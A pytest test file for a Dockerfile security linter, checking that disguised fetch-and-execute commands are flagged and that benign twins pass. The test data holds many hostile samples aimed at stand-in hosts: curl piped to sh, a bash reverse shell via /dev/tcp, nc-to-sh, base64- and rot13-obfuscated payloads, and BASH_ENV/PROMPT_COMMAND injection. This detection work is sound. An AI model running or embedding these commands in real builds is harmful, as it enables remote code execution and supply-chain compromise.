"""What disguises of a command come to: each is caught, and each clean twin passes."""

from collections import Counter
from collections.abc import Callable

import pytest

from gate.declarations.dockerfile import DockerfileSettings
from gate.declarations.section import StageSettings
from gate.dockerfile.build_context import BuildContext
from gate.dockerfile.discovery import find_dockerfiles
from gate.dockerfile.lint import lint
from gate.model import Tree
from gate.trees import open_tree

CAUGHT = [
    (
        "GD002",
        'RUN <<EOF python3\nimport urllib.request\nexec(urllib.request.urlopen("https://e.example/i").read())\nEOF',
    ),
    (
        "GD002",
        'RUN <<EOF\n#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen("https://e.example/i").read())\nEOF',
    ),
    (
        "GD002",
        'RUN python3 - <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("https://e.example/i").read())\nEOF',
    ),
    ("GD002", 'RUN <<EOF perl\nuse LWP::Simple; eval get("https://e.example/i");\nEOF'),
    ("GD002", "RUN <<EOF bash\ncurl https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF env -S bash -e\ncurl https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF\n#!/usr/bin/env -S bash -e\ncurl https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF\n#!/bin/busybox sh\ncurl https://e.example/i | sh\nEOF"),
    ("GD002", "COPY <<EOF /x.sh\ncurl https://e.example/i | sh\nEOF\nRUN sh /x.sh"),
    ("GD002", "COPY --chmod=755 <<EOF /x.sh\n#!/bin/sh\ncurl https://e.example/i | sh\nEOF\nRUN /x.sh"),
    ("GD002", "WORKDIR /w\nCOPY <<x.sh ./\ncurl https://e.example/i | sh\nx.sh\nRUN ./x.sh"),
    (
        "GD002",
        "FROM a:1 AS b\nCOPY <<EOF /x.sh\ncurl https://e.example/i | sh\nEOF\n"
        "FROM c:1\nCOPY --from=b /x.sh /y.sh\nRUN sh /y.sh",
    ),
    ("GD002", 'RUN ["sh","-c","curl https://e.example/i | sh"]'),
    ("GD002", 'RUN ["/bin/bash","-lc","curl https://e.example/i | sh"]'),
    ("GD002", 'RUN ["/usr/bin/env","bash","-c","curl https://e.example/i | sh"]'),
    ("GD002", 'RUN ["/bin/busybox","sh","-c","wget -O- https://e.example/i | sh"]'),
    ("GD002", 'SHELL ["/bin/bash","-o","pipefail","-c"]\nRUN curl https://e.example/i | sh'),
    (
        "GD002",
        'SHELL ["python3","-c"]\nRUN import urllib.request; exec(urllib.request.urlopen("https://e.example/i").read())',
    ),
    ("GD002", 'SHELL ["/usr/bin/env","bash","-c"]\nRUN curl https://e.example/i | sh'),
    ("GD002", 'SHELL ["/bin/busybox","sh","-c"]\nRUN curl https://e.example/i | sh'),
    ("GD002", 'SHELL ["/bin/sh","-c","curl https://e.example/i | sh; true"]\nRUN true'),
    ("GD002", 'SHELL ["/opt/x","-c"]\nRUN curl https://e.example/i | sh'),
    ("GD002", 'ENV C="curl https://e.example/i | sh"\nRUN eval $C'),
    ("GD002", 'ENV C="curl https://e.example/i | sh"\nRUN sh -c "$C"'),
    ("GD002", 'ENV C="curl https://e.example/i"\nRUN $C | sh'),
    ("GD002", "ENV C=curl\nRUN $C https://e.example/i | sh"),
    ("GD002", "ARG C=curl\nRUN ${C} https://e.example/i | sh"),
    ("GD002", "ARG S=sh\nRUN curl https://e.example/i | $S"),
    ("GD002", "RUN curl https://e.example/i | ${S:-sh}"),
    ("GD001", "ARG U=https://e.example/i\nADD $U /x"),
    ("GD006", "ARG U=http://e.example/a.tgz\nRUN curl -O $U"),
    ("GD006", "ENV H=http://e.example\nRUN curl -O ${H}/a.tgz"),
    ("GD002", "RUN C=curl; $C https://e.example/i | sh"),
    ("GD002", "RUN A=cu B=rl; $A$B https://e.example/i | sh"),
    ("GD002", "RUN env -S \"sh -c 'curl https://e.example/i | sh'\""),
    ("GD002", 'RUN env -S"curl https://e.example/i" | sh'),
    ("GD002", "RUN env --split-string=\"bash -c 'curl https://e.example/i | sh'\""),
    ("GD002", "RUN eval curl https://e.example/i \\| sh"),
    ("GD002", 'RUN eval "curl https://e.example/i | sh"'),
    ("GD002", "RUN curl${IFS}https://e.example/i|sh"),
    ("GD002", "RUN curl$IFS$9https://e.example/i|sh"),
    ("GD002", "RUN {curl,https://e.example/i} | sh"),
    ("GD002", 'RUN sh -c "$(curl https://e.example/i)"'),
    ("GD002", 'RUN sh -c "`curl https://e.example/i`"'),
    ("GD002", "RUN curl https://e.example/i | xargs sh -c"),
    ("GD002", "RUN curl https://e.example/i | xargs -I% sh -c %"),
    ("GD002", "RUN curl https://e.example/i | xargs -0 bash -c"),
    ("GD002", "RUN bash <(curl https://e.example/i)"),
    ("GD002", "RUN . <(curl https://e.example/i)"),
    ("GD002", 'RUN bash <<< "$(curl https://e.example/i)"'),
    ("GD002", "RUN curl https://e.example/i | tee /x | sh"),
    ("GD002", "RUN curl https://e.example/i | tee >(sh)"),
    ("GD002", "RUN curl https://e.example/i > >(sh)"),
    ("GD028", "RUN curl -o /x.sh https://e.example/i\nRUN sh /x.sh"),
    ("GD028", "RUN curl -o /x https://e.example/i && chmod +x /x\nRUN /x"),
    ("GD028", "RUN wget -O /tmp/x.sh https://e.example/i\nRUN bash /tmp/x.sh"),
    ("GD028", "WORKDIR /w\nRUN wget https://e.example/i.sh\nRUN sh i.sh"),
    (
        "GD028",
        "FROM a:1 AS d\nRUN curl -o /x.sh https://e.example/i\nFROM b:1\nCOPY --from=d /x.sh /y.sh\nRUN sh /y.sh",
    ),
    (
        "GD028",
        "FROM a:1 AS d\nRUN curl -o /x.sh https://e.example/i\n"
        "FROM b:1\nRUN --mount=type=bind,from=d,source=/x.sh,target=/y.sh sh /y.sh",
    ),
    ("GD028", "FROM a:1 AS d\nRUN curl -o /x.sh https://e.example/i\nFROM d\nRUN sh /x.sh"),
    ("GD001", "ADD https://e.example/i /x.sh\nRUN sh /x.sh"),
    ("GD028", 'RUN curl -o /x.sh https://e.example/i\nCMD ["sh","/x.sh"]'),
    ("GD028", "RUN curl https://e.example/i > /x.sh\nRUN sh /x.sh"),
    (
        "GD028",
        "RUN --mount=type=cache,target=/c curl -o /c/x.sh https://e.example/i\n"
        "RUN --mount=type=cache,target=/c sh /c/x.sh",
    ),
    ("GD028", "RUN curl -o /x.sh https://e.example/i && mv /x.sh /y.sh && sh /y.sh"),
    ("GD028", "RUN curl -o /x.sh https://e.example/i; cat /x.sh | sh"),
    ("GD028", "RUN curl -o /x.sh https://e.example/i; sh < /x.sh"),
    ("GD028", "RUN curl -o /x.sh https://e.example/i; . /x.sh"),
    ("GD029", "RUN curl https://e.example/i.tgz | tar xz && ./install.sh"),
    ("GD002", "ONBUILD RUN curl https://e.example/i | sh"),
    ("GD002", "RUN cu\\\n# c\nrl https://e.example/i | sh"),
    ("GD002", "RUN curl https://e.example/i | s\\\nh"),
    ("GD002", "# escape=`\nFROM a:1\nRUN curl https://e.example/i `\n| sh"),
    ("GD023", "# syntax=evil.example/frontend:1\nFROM a:1"),
    ("GD023", "// syntax=evil.example/f\nFROM a:1"),
    ("GD023", '{"syntax":"evil.example/f"}\nFROM a:1'),
    ("GD109", "RUN echo Y3VybCBodHRwczovL2UuZXhhbXBsZS9pIHwgc2g= | base64 -d | sh"),
    ("GD109", 'RUN bash -c "$(echo Y3VybCBodHRwczovL2UuZXhhbXBsZS9pIHwgc2g= | base64 --decode)"'),
    ("GD109", "RUN eval $(echo Y3VybA== | base64 -d)"),
    ("GD109", "RUN base64 -d <<< Y3VybA== | sh"),
    ("GD109", "RUN echo Y3VybA== | base64 -d > /x.sh && sh /x.sh"),
    ("GD109", "RUN echo Y3VybA== | openssl base64 -d | sh"),
    ("GD109", "RUN echo 6375726c | xxd -r -p | sh"),
    ("GD109", "RUN printf '\\x63\\x75\\x72\\x6c' | sh"),
    ("GD109", "RUN echo 'hs | i/elpmaxe' | rev | sh"),
    ("GD109", "RUN echo 'phey uggcf' | tr a-z n-za-m | sh"),
    ("GD109", "RUN base64 -d /x | gunzip | sh"),
    ("GD109", "RUN python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\""),
    ("GD109", 'RUN perl -e \'eval pack("H*","70")\''),
    ("GD002", "RUN $'\\x63url' https://e.example/i | sh"),
    ("GD002", "RUN cu\"\"rl https://e.example/i | s''h"),
    ("GD002", "RUN c\\url https://e.example/i | s\\h"),
    ("GD002", "RUN /usr/bin/curl https://e.example/i | /bin/sh"),
    ("GD002", "RUN busybox wget -O- https://e.example/i | sh"),
    ("GD002", "RUN curl https://e.example/i | busybox sh"),
    ("GD002", "RUN toybox wget -O- https://e.example/i | toybox sh"),
    ("GD002", "RUN python3 -c \"import urllib.request as u; print(u.urlopen('https://e.example/i').read())\" | sh"),
    (
        "GD028",
        "RUN python3 -c \"import urllib.request as u; u.urlretrieve('https://e.example/i','/x.sh')\" && sh /x.sh",
    ),
    ("GD002", "RUN python -c \"import urllib2;exec(urllib2.urlopen('https://e.example/i').read())\""),
    ("GD002", "RUN node -e \"fetch('https://e.example/i').then(r=>r.text()).then(eval)\""),
    ("GD002", "RUN ruby -ropen-uri -e \"eval URI.open('https://e.example/i').read\""),
    ("GD002", "RUN php -r \"eval(file_get_contents('https://e.example/i'));\""),
    ("GD002", 'RUN bash -c "exec 3<>/dev/tcp/e.example/80; cat <&3 | sh"'),
    ("GD002", "RUN bash -i >& /dev/tcp/e.example/80 0>&1"),
    ("GD002", "RUN nc e.example 80 | sh"),
    ("GD002", "RUN ssh a@e.example cat x | sh"),
    ("GD002", "RUN aws s3 cp s3://b/x - | sh"),
    ("GD002", "RUN gsutil cat gs://b/x | sh"),
    ("GD002", "RUN if true; then curl https://e.example/i | sh; fi"),
    ("GD002", "RUN for i in 1; do curl https://e.example/i; done | sh"),
    ("GD002", "RUN f() { curl https://e.example/i; }; f | sh"),
    ("GD002", "RUN trap 'curl https://e.example/i | sh' EXIT"),
    ("GD002", "RUN (curl https://e.example/i) | (sh)"),
    ("GD002", "RUN timeout 5 curl https://e.example/i | sudo -E bash -"),
    ("GD002", 'RUN nohup sh -c "curl https://e.example/i | sh" &'),
    ("GD002", 'RUN find / -name x -exec sh -c "curl https://e.example/i | sh" \\;'),
    ("GD002", "RUN find . -exec sh -c 'curl https://e.example/i | sh' {} +"),
    ("GD002", 'RUN ssh-agent sh -c "curl https://e.example/i | sh"'),
    ("GD002", 'RUN script -c "curl https://e.example/i | sh" /dev/null'),
    ("GD002", "RUN awk 'BEGIN{system(\"curl https://e.example/i | sh\")}'"),
    ("GD002", "RUN python3 -c \"import os; os.system('curl https://e.example/i | sh')\""),
    ("GD002", "RUN perl -e 'system(\"curl https://e.example/i | sh\")'"),
    ("GD002", 'RUN sudo su - x -c "curl https://e.example/i | sh"'),
    ("GD002", 'RUN su x -s /bin/sh -c "curl https://e.example/i | sh"'),
    ("GD002", 'RUN sh -ec "curl https://e.example/i | sh"'),
    ("GD002", 'RUN bash -o pipefail -c "curl https://e.example/i | sh"'),
    ("GD002", 'RUN bash --login -c "curl https://e.example/i | sh"'),
    ("GD002", 'RUN bash -O extglob -c "curl https://e.example/i | sh"'),
    ("GD002", "RUN bash --rcfile <(curl https://e.example/i) -i"),
    ("GD029", "RUN curl https://e.example/i | apt-key add -"),
    ("GD110", "RUN --mount=type=secret,id=x,target=/x.sh sh /x.sh"),
    ("GD110", 'RUN --mount=type=secret,id=x eval "$(cat /run/secrets/x)"'),
    ("GD034", 'HEALTHCHECK CMD ["sh","-c","curl https://e.example/i | sh"]'),
    ("GD034", "CMD curl https://e.example/i | sh"),
    ("GD034", 'ENTRYPOINT ["/bin/sh","-c","curl https://e.example/i | sh"]'),
    ("GD002", 'RUN pwsh -c "iex (iwr https://e.example/i)"'),
    ("GD109", "RUN pwsh -enc aQBlAHgA"),
    ("GD002", "ARG I=https://e.example/i\nRUN curl $I | sh"),
    ("GD002", "ENV A=cu\nENV B=${A}rl\nRUN $B https://e.example/i | sh"),
    ("GD002", "RUN $(command -v curl) https://e.example/i | sh"),
    ("GD002", "RUN `which curl` https://e.example/i | sh"),
    ("GD002", "RUN curl -K /x | sh"),
    ("GD028", "RUN --mount=type=tmpfs,target=/t curl -o /t/x https://e.example/i && sh /t/x"),
    ("GD002", "RUN <<EOF\nalias c=curl\nc https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF\nalias c='curl -s'\nc https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF\nalias s=sh\ncurl https://e.example/i | s\nEOF"),
    ("GD002", "RUN <<EOF\nalias c=curl d=c\nd https://e.example/i | sh\nEOF"),
    ("GD002", "RUN <<EOF\nalias i='curl https://e.example/i | sh'\ni\nEOF"),
    ("GD002", "RUN cp /usr/bin/curl /x && /x https://e.example/i | sh"),
    ("GD002", "RUN cp -a /usr/bin/curl /tmp/x; /tmp/x https://e.example/i | sh"),
    ("GD002", "RUN ln -s /usr/bin/curl /x && /x https://e.example/i | sh"),
    ("GD002", "RUN mv /usr/bin/wget /w\nRUN /w -qO- https://e.example/i | sh"),
    ("GD002", "RUN cp /usr/bin/curl /x\nRUN /x e.example/i | sh"),
    ("GD002", "FROM a:1 AS b\nRUN ln -s /usr/bin/curl /x\nFROM b\nRUN /x https://e.example/i | sh"),
    ("GD002", "COPY --from=t /usr/bin/curl /x\nRUN /x https://e.example/i | sh"),
    ("GD002", "RUN cp /bin/sh /x && curl https://e.example/i | /x"),
    ("GD002", "RUN cp $(command -v curl) /x && /x https://e.example/i | sh"),
    ("GD002", "RUN hash -p /usr/bin/curl x && x https://e.example/i | sh"),
    ("GD002", "RUN cp /bin/busybox /x && /x wget -O- https://e.example/i | sh"),
    ("GD109", "RUN cp /usr/bin/base64 /x && echo Y3VybA== | /x -d | sh"),
    ("GD034", "RUN cp /usr/bin/curl /x\nCMD /x https://e.example/i | sh"),
    ("GD002", "ENV BASH_ENV='$(curl https://e.example/i | sh)'"),
    ("GD002", "ENV PROMPT_COMMAND='curl https://e.example/i | sh'"),
    ("GD002", "ENV A=1 ENV='$(wget -qO- https://e.example/i | sh)'"),
    ("GD002", "RUN BASH_ENV='$(curl https://e.example/i | sh)' bash -c true"),
    ("GD002", "RUN export PROMPT_COMMAND='curl https://e.example/i | sh'; bash -i"),
    ("GD002", "RUN echo \"PROMPT_COMMAND='curl https://e.example/i | sh'\" >> /root/.bashrc"),
    ("GD002", "ENV BASH_ENV=/x\nCOPY <<EOF /x\ncurl https://e.example/i | sh\nEOF"),
]


@pytest.mark.parametrize(("rule", "text"), CAUGHT)
def test_a_disguise_is_caught(rules_that_catch: Callable[[str], "Counter[str]"], rule: str, text: str) -> None:
    assert rules_that_catch(text)[rule]


URL = "https://e.example/i"
CLEAN = [
    ("GD002", f"RUN cp /usr/bin/curl /x && /x -o /i {URL}"),
    ("GD002", f"RUN <<EOF\nalias c=curl\nc -o /i {URL}\nEOF"),
    ("GD002", "COPY http /app/web\nRUN web | sh"),
    ("GD002", "RUN ln -sf /bin/bash /bin/sh\nRUN echo ls | sh"),
    ("GD002", "ENV BASH_ENV=/etc/bash.env PROMPT_COMMAND='history -a'"),
    ("GD002", "ENV ENV=production\nRUN curl -fsSLO https://e.example/i"),
    ("GD002", f'ENV U="{URL}"\nRUN curl -fsSLO "$U" && echo "0123  i" | sha256sum -c -'),
    ("GD002", f"ENV C=curl\nRUN $C {URL} | tar xz"),
    ("GD002", "ENV S=sh\nRUN echo a | $S"),
    ("GD002", f"COPY <<EOF /etc/motd\ncurl {URL} | sh\nEOF"),
    ("GD002", f"RUN echo 'curl {URL} | sh' > /usr/share/doc/x.txt"),
    ("GD002", f"RUN curl {URL} | xargs -n1 sh -c 'echo \"$1\"' --"),
    ("GD002", f"RUN curl {URL} | tee /x | grep y"),
    ("GD002", "RUN while ! echo > /dev/tcp/localhost/80; do sleep 1; done"),
    ("GD002", "HEALTHCHECK CMD bash -c '</dev/tcp/127.0.0.1/80'"),
    ("GD002", "RUN python3 - <<EOF\nimport os\nos.system('ls')\nEOF"),
    ("GD002", "RUN python3 -c \"import urllib.request as u; u.urlopen('http://localhost:1')\""),
    ("GD028", f"RUN curl -o /x.sh {URL} && echo '0123  /x.sh' | sha256sum -c -\nRUN sh /x.sh"),
    ("GD028", f"RUN curl -o /x.sh {URL}\nRUN echo '0123  /x.sh' | sha256sum -c -\nRUN sh /x.sh"),
    ("GD028", f"RUN curl -o /x.txt {URL}\nRUN sh /y.sh"),
    ("GD028", f"FROM a:1 AS d\nRUN curl -o /x.sh {URL}\nFROM b:1\nRUN sh /x.sh"),
    ("GD109", "RUN echo bHMgLwo= | base64 -d > /etc/motd"),
    ("GD109", 'RUN echo "$KEY" | base64 --decode > /key.json && sh build.sh'),
    ("GD109", "RUN printf 'a\\nb\\n' | sh -s"),
    ("GD109", "RUN echo a | tr a-z A-Z | sh -s"),
    ("GD109", "RUN python3 -c \"import base64; print(base64.b64decode('YQ=='))\""),
    ("GD110", "RUN --mount=type=secret,id=env . /run/secrets/env && make"),
    ("GD110", "RUN --mount=type=secret,id=t TOKEN=$(cat /run/secrets/t) sh x.sh"),
    ("GD023", "# syntax=docker/dockerfile:1\nFROM a:1"),
    ("GD023", "#!/usr/bin/env docker\n# syntax=docker/dockerfile:1\nFROM a:1"),
    ("GD006", "ENV U=https://e.example\nRUN curl $U/a.tgz"),
]


@pytest.mark.parametrize(("rule", "text"), CLEAN)
def test_a_clean_twin_passes(rules_that_catch: Callable[[str], "Counter[str]"], rule: str, text: str) -> None:
    assert not rules_that_catch(text)[rule]


SCRIPT = "#!/bin/sh\ncurl https://e.example/i | sh\n"


@pytest.mark.parametrize(
    ("text", "is_caught"),
    [
        ("COPY x.sh /tmp/\nRUN sh /tmp/x.sh", True),
        ("COPY x.sh /tmp/y.sh\nRUN bash -e /tmp/y.sh", True),
        ("COPY . /srv\nRUN /srv/x.sh", True),
        ("COPY *.sh /srv/\nRUN sh /srv/x.sh", True),
        ("RUN --mount=type=bind,source=x.sh,target=/x.sh sh /x.sh", True),
        ("RUN --mount=type=bind,target=/src sh /src/x.sh", True),
        ("COPY x.sh /tmp/", False),
        ("COPY clean.sh /tmp/\nRUN sh /tmp/clean.sh", False),
    ],
)
def test_a_script_of_the_context_is_read_where_it_is_run(
    make_tree: Callable[[dict[str, str]], Tree], text: str, is_caught: bool
) -> None:
    tree = open_tree(make_tree({"x.sh": SCRIPT, "clean.sh": "#!/bin/sh\nmake\n"}))
    content = f"FROM a:1\n{text}\n".encode()
    found = lint(content, "Dockerfile", "tree", DockerfileSettings(), BuildContext(tree, "Dockerfile")).findings
    assert any(one.rule == "GD002" for one in found) is is_caught


CALLERS = {
    ".github/workflows/a.yml": "run: docker build -t a -f build/app.txt .\n",
    "ci/.gitlab-ci.yml": "script:\n- docker buildx build \\\n    --file=../build/app.txt ..\n",
    "Makefile": "image:\n\tpodman build --pull -f build/app.txt .\n",
    "cloudbuild.yaml": "steps:\n- name: gcr.io/cloud-builders/docker\n  args: ['build', '-f', 'build/app.txt', '.']\n",
    "Jenkinsfile": "sh 'buildah bud --file build/app.txt .'\n",
    ".github/workflows/b.yml": "- uses: docker/build-push-action@v6\n  with:\n    file: build/app.txt\n",
    "action.yml": "runs:\n  using: docker\n  image: build/app.txt\n",
    "kaniko.sh": "/kaniko/executor --dockerfile build/app.txt\n",
    ".devcontainer/devcontainer.json": '{"build": {"dockerfile": "../build/app.txt"}, "x": "docker"}\n',
    "fly.toml": 'image = "docker"\n[build]\ndockerfile = "build/app.txt"\n',
}


@pytest.mark.parametrize("caller", CALLERS)
def test_what_a_build_names_is_a_dockerfile(make_tree: Callable[[dict[str, str]], Tree], caller: str) -> None:
    tree = open_tree(make_tree({caller: CALLERS[caller], "build/app.txt": "FROM a:1\n"}))
    assert find_dockerfiles(tree, StageSettings()).paths == ("build/app.txt",)


@pytest.mark.parametrize(
    "call",
    [
        "docker compose -f build/app.txt build",
        "docker build . && kubectl apply -f build/app.txt",
        "make -f build/app.txt",
        "docker build -f $FILE .",
        "docker build -f ../build/app.txt .",
    ],
)
def test_what_no_build_names_is_none(make_tree: Callable[[dict[str, str]], Tree], call: str) -> None:
    tree = open_tree(make_tree({"a.sh": f"{call}\n", "build/app.txt": "docker\n"}))
    assert find_dockerfiles(tree, StageSettings()).paths == ()
